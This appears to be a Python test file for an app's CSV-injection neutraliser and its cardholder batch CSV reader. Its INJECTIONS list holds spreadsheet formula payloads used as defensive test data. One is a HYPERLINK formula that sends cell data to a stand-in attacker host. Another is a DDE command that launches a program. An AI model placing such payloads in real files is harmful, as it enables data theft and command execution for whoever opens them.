"""CSV safety: formula neutralising (CSV injection) and the cardholder batch input reader."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from enkash_desktop.core.csvsafe import (
    FORMULA_STARTS,
    encode_csv,
    neutralise_cell,
    neutralise_row,
    read_cardholders_csv,
    restore_cell,
)
from enkash_desktop.core.errors import EnkashError, ErrorKind
from enkash_desktop.core.models import Cardholder

INJECTIONS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", INJECTIONS)
def test_formula_cells_get_a_leading_quote(value: str) -> None:
    assert neutralise_cell(value) == "'" + value
    assert restore_cell(neutralise_cell(value)) == value


@pytest.mark.parametrize("value", ["", "CAQL8YCV3", "Success", "a=b", " =x", "'quoted", "1.5"])
def test_harmless_cells_are_unchanged(value: str) -> None:
    assert neutralise_cell(value) == value


def test_neutralise_row_keeps_numbers_and_empties_none() -> None:
    # The semantics the history's CSV export relies on.
    assert neutralise_row(["=1", None, 3, 2.5, True, "ok"]) == ["'=1", "", 3, 2.5, True, "ok"]


@given(st.text())
def test_no_written_cell_can_start_a_formula(value: str) -> None:
    data = encode_csv(["value"], [[value]])
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["value"]
    cell = rows[1][0] if len(rows) > 1 and rows[1] else ""
    assert not cell.startswith(FORMULA_STARTS)
    if not (value.startswith("'") and value[1:].startswith(FORMULA_STARTS)):
        assert restore_cell(cell) == value


# ------------------------------------------------------------------ reading cardholders

GOOD = ("CAQL8YCV3", "CEK1PU9AOO", "EKCDM5AVZY")


@pytest.mark.parametrize(
    "header",
    [
        "Card Account ID,Company ID,EnKash Card ID",
        "card_account_id,company_id,enkash_card_id",
        "cardAccountId,companyId,enKashCardId",
        "CARD-ACCOUNT-ID, Company Id ,enkashCardId",
    ],
)
def test_header_names_match_loosely(header: str) -> None:
    rows, problems = read_cardholders_csv(f"{header}\n{','.join(GOOD)}\n")
    assert problems == []
    assert [r.cardholder for r in rows] == [Cardholder(*GOOD)]
    assert rows[0].line == 2


@pytest.mark.parametrize("bom", [b"", b"\xef\xbb\xbf"])
@pytest.mark.parametrize("sep", [",", ";", "\t"])
def test_bytes_with_or_without_bom_and_any_separator(bom: bytes, sep: str,
                                                     tmp_path: Path) -> None:
    text = sep.join(["Name", "Card Account ID", "Company ID", "EnKash Card ID", "Admin"]) + "\r\n"
    text += sep.join(['"Doe, Jane; HR"', *GOOD, "admin"]) + "\r\n"
    text += sep.join(["Raj", "CAR7T2KD9", "CEK1PU9AOO", "EKCDP3HQ7W", ""]) + "\r\n"
    data = bom + text.encode("utf-8")
    path = tmp_path / "in.csv"
    path.write_bytes(data)
    for source in (data, path):
        rows, problems = read_cardholders_csv(source)
        assert problems == []
        assert [r.cardholder for r in rows] == [
            Cardholder(*GOOD, admin=True),
            Cardholder("CAR7T2KD9", "CEK1PU9AOO", "EKCDP3HQ7W", admin=False),
        ]


def test_bad_rows_are_reported_with_their_line_and_the_rest_is_kept() -> None:
    text = (
        "card account id;company id;enkash card id;role\n"  # line 1
        "CAQL8YCV3;CEK1PU9AOO;EKCDM5AVZY;employee\n"  # 2 ok
        "\n"  # 3 blank: ignored
        "CA QL;CEK1PU9AOO;EKCDM5AVZY;\n"  # 4 space in id
        ";CEK1PU9AOO;EKCDM5AVZY;\n"  # 5 missing id
        "CAQL8YCV3;CEK1PU9AOO;EKCDM5AVZY;\n"  # 6 repeats line 2
        "CAX4N6BM2;CEK1PU9AOO;EKCDT8LJ4R;boss\n"  # 7 unknown role
        '"=1+1";CEK1PU9AOO;EKCDT8LJ4R;\n'  # 8 formula
        "'-ABC;CEK1PU9AOO;EKCDT8LJ4R;HR\n"  # 9 a neutralised id is read back as -ABC
        "CAZ9F1WQ6;CEK1PU9AOO\n"  # 10 short row
    )
    rows, problems = read_cardholders_csv(text)
    assert [(r.line, r.cardholder.card_account_id) for r in rows] == [(2, "CAQL8YCV3"),
                                                                     (9, "-ABC")]
    assert rows[1].cardholder.admin is True
    by_line = {p.line: p.message for p in problems}
    assert sorted(by_line) == [4, 5, 6, 7, 8, 10]
    assert "Card account id must not contain spaces" in by_line[4]
    assert "Card account id is required" in by_line[5]
    assert "repeats line 2" in by_line[6]
    assert "'boss'" in by_line[7] and "employee or admin" in by_line[7]
    assert "EnKash card id is required" in by_line[10]
    for p in problems:
        assert p.text.startswith(f"Line {p.line}: ") and p.message.endswith(".")


def test_line_numbers_count_physical_lines() -> None:
    text = ('Card Account ID,Company ID,EnKash Card ID,Note\n'
            'CAQL8YCV3,CEK1PU9AOO,EKCDM5AVZY,"a\nb"\nbad id,X,Y,\n')
    rows, problems = read_cardholders_csv(text)
    assert rows[0].line == 2 and problems[0].line == 4


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"", "empty"),
        (b"\n\n", "empty"),
        (b"name,company id\nx,y\n", "no column for card account id or EnKash card id"),
        ("Card Account ID\n".encode("utf-16"), "UTF-16"),
        ("Card Account ID,Company ID,EnKash Card ID\nCAQ,CEK,EK\u00e9\n".encode("latin-1"),
         "not UTF-8"),
    ],
)
def test_an_unusable_file_is_one_clear_error(data: bytes, words: str) -> None:
    with pytest.raises(EnkashError) as info:
        read_cardholders_csv(data)
    assert info.value.kind is ErrorKind.BAD_INPUT
    assert words in info.value.message and info.value.message.endswith(".")


def test_a_missing_file_is_a_clear_error(tmp_path: Path) -> None:
    with pytest.raises(EnkashError) as info:
        read_cardholders_csv(tmp_path / "nope.csv")
    assert "could not be read" in info.value.message and "nope.csv" in info.value.message
